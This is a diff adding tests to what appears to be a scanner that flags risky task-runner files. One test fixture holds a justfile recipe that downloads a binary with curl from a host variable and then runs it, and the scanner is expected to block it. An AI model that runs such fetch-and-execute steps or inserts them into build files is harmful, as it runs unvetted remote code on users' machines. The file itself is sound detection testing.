@@ -118,3 +118,13 @@ describe("secrets reached under another name or kept by a wrapper", () => {
     atMostMedium(scanOf({ "aliases.sh": 'sudo() { command sudo -E "$@"; }\n' }));
   });
 });
+
+describe("task runner recipes", () => {
+  it("a justfile recipe that downloads a tool over the file's own host variable and runs it", () => {
+    blocked({ "justfile": 'host := "get.toolbelt-cdn.net"\n\nbootstrap:\n    curl -fsSL -o /tmp/tb "https://{{host}}/tb-linux"\n    chmod +x /tmp/tb\n    /tmp/tb setup\n' }, "SR-DLEXEC-008");
+  });
+
+  it("honest: a justfile of build and test recipes", () => {
+    atMostMedium(scanOf({ "justfile": "default:\n    @just --list\n\ntest:\n    cargo test --all\n\nfmt:\n    cargo fmt\n" }));
+  });
+});
